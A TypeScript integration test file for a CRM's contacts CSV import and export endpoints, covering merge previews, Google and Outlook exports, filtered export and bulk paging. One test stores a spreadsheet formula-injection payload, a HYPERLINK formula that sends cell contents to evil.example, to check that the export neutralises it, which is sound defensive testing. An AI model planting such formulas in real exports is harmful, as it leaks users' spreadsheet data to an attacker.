import { readFileSync } from "node:fs";
import type { ImportPreviewJson } from "@poundline/contracts/crm/csv-schemas";
import { schema } from "@poundline/db";
import { IMPORT_MESSAGES } from "@poundline/modules/crm/import-person";
import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, type TestApp } from "../../src/testing";
import { createUser, type SignedIn, signIn, type TestUser } from "../fixtures";

let t: TestApp;
let user: TestUser;
let session: SignedIn;

beforeAll(async () => {
  t = await createTestApp();
  user = await createUser(t);
  session = await signIn(t, user);
  const res = await t.app.inject({
    method: "POST",
    url: "/api/contacts",
    headers: session.headers,
    payload: { name: "Existing Ada", phone: "4155550100", leadStatus: "won", tags: ["keep"] },
  });
  expect(res.statusCode, res.body).toBe(201);
});
afterAll(() => t.close());

const file = [
  "name,phone,email,company,lead_status,contact_type,tags,follow_up_date",
  "Ada Again,(415) 555-0100,,,new,,,",
  'Grace Hopper,4155550101,grace@navy.example,"US Navy, Retired",qualified,client,"cobol; navy",2026-05-01',
  "Alan Turing,+44 20 7946 0000,,,,,,",
].join("\n");

function post(url: string, csv: string) {
  return t.app.inject({ method: "POST", url, headers: session.headers, payload: { csv } });
}

async function contactsOf() {
  return t.db.db.select().from(schema.contacts).where(eq(schema.contacts.accountId, user.accountId));
}

describe("contacts CSV import", () => {
  it("previews each row's outcome, the phone numbers already in the account included, writing nothing", async () => {
    const res = await post("/api/contacts/import/preview", file);
    expect(res.statusCode, res.body).toBe(200);
    const preview = res.json<ImportPreviewJson>();
    expect(preview).toMatchObject({
      format: "poundline",
      encoding: "utf-8",
      mode: "merge",
      counts: { created: 2, merged: 0, skipped: 1, refused: 0 },
    });
    expect(preview.columns.map((c) => c.field)).toEqual([
      "name",
      "phone",
      "email",
      "company",
      "lead_status",
      "contact_type",
      "tags",
      "follow_up_date",
    ]);
    // Ada's row holds nothing her contact lacks (her name and status are not overwritten).
    expect(preview.rows.map((r) => [r.row, r.outcome, r.reason, r.target?.name ?? null])).toEqual([
      [2, "skip", "unchanged", "Existing Ada"],
      [3, "create", null, null],
      [4, "create", null, null],
    ]);
    expect(await contactsOf()).toHaveLength(1);
  });

  it("imports the new rows and leaves a contact whose phone it has as it was when the row adds nothing", async () => {
    const res = await post("/api/contacts/import", file);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toEqual({
      mode: "merge",
      counts: { created: 2, merged: 0, skipped: 1, refused: 0 },
      rows: [
        {
          row: 2,
          name: "Ada Again",
          phone: "(415) 555-0100",
          email: "",
          outcome: "skip",
          reason: "unchanged",
          target: { name: "Existing Ada", phone: "+14155550100", row: null },
          fills: [],
          fillsCustom: [],
          addsTags: [],
          problems: [],
        },
      ],
    });
    const rows = await contactsOf();
    expect(rows).toHaveLength(3);
    const existing = rows.find((r) => r.phone === "+14155550100");
    expect(existing).toMatchObject({ name: "Existing Ada", leadStatus: "won", tags: ["keep"] });
    const grace = rows.find((r) => r.phone === "+14155550101");
    expect(grace).toMatchObject({
      name: "Grace Hopper",
      company: "US Navy, Retired",
      leadStatus: "qualified",
      contactType: "client",
      source: "manual",
      tags: ["cobol", "navy"],
      userId: user.id,
    });
    expect(grace?.followUpDate?.toISOString()).toBe("2026-05-01T00:00:00.000Z");
    expect(grace?.lastContacted).not.toBeNull();
    // Importing the same file again changes nothing.
    const again = await post("/api/contacts/import", file);
    expect(again.json()).toMatchObject({ counts: { created: 0, merged: 0, skipped: 3, refused: 0 } });
    expect(await contactsOf()).toHaveLength(3);
  });

  it("imports a Google Contacts export through the mapping the person changed, reporting each row left out", async () => {
    const bytes = readFileSync(new URL("./fixtures/google-contacts.csv", import.meta.url));
    const preview = await t.app.inject({
      method: "POST",
      url: "/api/contacts/import/preview",
      headers: session.headers,
      payload: { file: bytes.toString("base64") },
    });
    const { columns, format } = preview.json<ImportPreviewJson>();
    expect(format).toBe("google");
    // The person does not want the job titles.
    const mapping = columns.map((c) => (c.header === "Organization Title" ? null : c.field));
    const res = await t.app.inject({
      method: "POST",
      url: "/api/contacts/import",
      headers: session.headers,
      payload: { file: bytes.toString("base64"), mapping },
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json()).toMatchObject({
      counts: { created: 3, merged: 0, skipped: 0, refused: 1 },
      rows: [
        {
          row: 4,
          name: "Marco Rossi",
          phone: "",
          email: "marco@example.it",
          outcome: "error",
          problems: [{ field: "phone", message: IMPORT_MESSAGES.noPhone }],
        },
      ],
    });
    const jane = (await contactsOf()).find((r) => r.phone === "+14155550142");
    expect(jane).toMatchObject({ name: "Dr. Jane Q. Doe", company: "Acme Corp", tags: ["VIP", "Customers"] });
    expect(jane?.customFields).toMatchObject({ "Phone (Mobile)": "+14155550143", Department: "Sales" });
    expect(jane?.customFields).not.toHaveProperty("Job Title");
  });

  it("reads an Outlook export in Windows-1252 with its accents whole", async () => {
    const bytes = readFileSync(new URL("./fixtures/outlook-windows-1252.csv", import.meta.url));
    const res = await t.app.inject({
      method: "POST",
      url: "/api/contacts/import",
      headers: session.headers,
      payload: { file: bytes.toString("base64") },
    });
    expect(res.json()).toMatchObject({ counts: { created: 2, merged: 0, skipped: 0, refused: 0 } });
    const names = (await contactsOf()).map((r) => r.name);
    expect(names).toEqual(expect.arrayContaining(["Mme Hélène Dupré", "José Muñoz"]));
  });
});

describe("contacts CSV export", () => {
  it("streams the account's contacts with the list's filters, and reads back in", async () => {
    const all = await t.app.inject({
      method: "GET",
      url: "/api/contacts/export.csv",
      headers: session.headers,
    });
    expect(all.statusCode).toBe(200);
    expect(all.headers["content-type"]).toMatch(/^text\/csv/);
    expect(all.headers["content-disposition"]).toMatch(
      /^attachment; filename="contacts-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    const lines = all.body
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n");
    expect(lines[0]).toBe(
      '"name","phone","email","company","address","notes","lead_status","contact_type","source","tags","last_contacted","follow_up_date"',
    );
    expect(all.body.startsWith("\uFEFF")).toBe(true);
    expect(lines).toHaveLength(1 + (await contactsOf()).length);
    expect(all.body).toContain('"US Navy, Retired"');

    const filtered = await t.app.inject({
      method: "GET",
      url: "/api/contacts/export.csv?contactType=client&tag=navy&q=grace",
      headers: session.headers,
    });
    const filteredLines = filtered.body.trim().split("\r\n");
    expect(filteredLines).toHaveLength(2);
    expect(filteredLines[1]).toMatch(/^"Grace Hopper","\+14155550101",/);

    // The export is a valid import: every row is already there.
    const preview = await post("/api/contacts/import/preview", all.body);
    expect(preview.json<ImportPreviewJson>().counts).toEqual({
      created: 0,
      merged: 0,
      skipped: lines.length - 1,
      refused: 0,
    });
  });

  it("neutralises a name a spreadsheet would run as a formula, and leaves E.164 numbers as numbers", async () => {
    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
    const created = await t.app.inject({
      method: "POST",
      url: "/api/contacts",
      headers: session.headers,
      payload: { name, phone: "4155550177", notes: "@SUM(1+1)" },
    });
    expect(created.statusCode, created.body).toBe(201);
    const res = await t.app.inject({
      method: "GET",
      url: "/api/contacts/export.csv?q=4155550177",
      headers: session.headers,
    });
    const [, row] = res.body.trim().split("\r\n");
    expect(row).toMatch(
      /^"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Click me""\)","\+14155550177","","","","'@SUM\(1\+1\)",/,
    );
  });

  it("pages through a large account by keyset, every contact once", async () => {
    const now = new Date();
    await t.db.db.insert(schema.contacts).values(
      Array.from({ length: 2500 }, (_, i) => ({
        id: `ct_bulk${String(i).padStart(5, "0")}`,
        accountId: user.accountId,
        name: `Bulk ${i}`,
        phone: `+1312555${String(i).padStart(4, "0")}`,
        // Many share an instant: the id breaks the ties.
        createdAt: new Date(now.getTime() - Math.floor(i / 7) * 1000),
        updatedAt: now,
      })),
    );
    const res = await t.app.inject({
      method: "GET",
      url: "/api/contacts/export.csv?q=bulk",
      headers: session.headers,
    });
    const names = res.body
      .trim()
      .split("\r\n")
      .slice(1)
      .map((line) => line.split(",")[0]?.replaceAll('"', ""));
    expect(names).toHaveLength(2500);
    expect(new Set(names).size).toBe(2500);
    await t.db.db
      .delete(schema.contacts)
      .where(and(eq(schema.contacts.accountId, user.accountId), eq(schema.contacts.source, "call")));
  });
});
